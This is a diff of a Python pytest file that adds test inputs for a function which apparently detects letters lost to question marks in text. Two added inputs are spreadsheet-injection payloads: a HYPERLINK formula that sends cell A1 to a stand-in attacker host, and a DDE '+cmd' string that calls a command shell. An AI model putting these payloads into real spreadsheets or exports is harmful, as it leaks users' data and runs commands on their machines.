@@ -168,10 +168,26 @@ def test_lost_letters_are_noticed(text: str):
 
 
 @pytest.mark.parametrize(
-    "text", ["", "Pérez", "Who knows this?", "Do you make gear boxes ?", "R&D!"]
+    "text",
+    [
+        *("", "Pérez", "Who knows this?", "Do you make gear boxes ?", "R&D!"),
+        *(
+            "Is it you?! Or is it not??",
+            "¿Qué es esto, quién sabe?",
+            "See http://list.example/?id=7",
+        ),
+        *('=HYPERLINK("http://evil.example/?"&A1)', "'+cmd|'/C ?'!A0", "list.example/find?who=ada"),
+    ],
 )
 def test_a_question_is_no_loss(text: str):
     assert not lost_letters(text)
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+\ufffd", "P?rez www.list.example/?a", "Anna? Maria Kowalska?", "-P?rez", "Kova? ?"]
+)
+def test_beside_a_formula_or_an_address_a_loss_is_one(text: str):
+    assert lost_letters(text)
 
 
 @pytest.mark.parametrize(
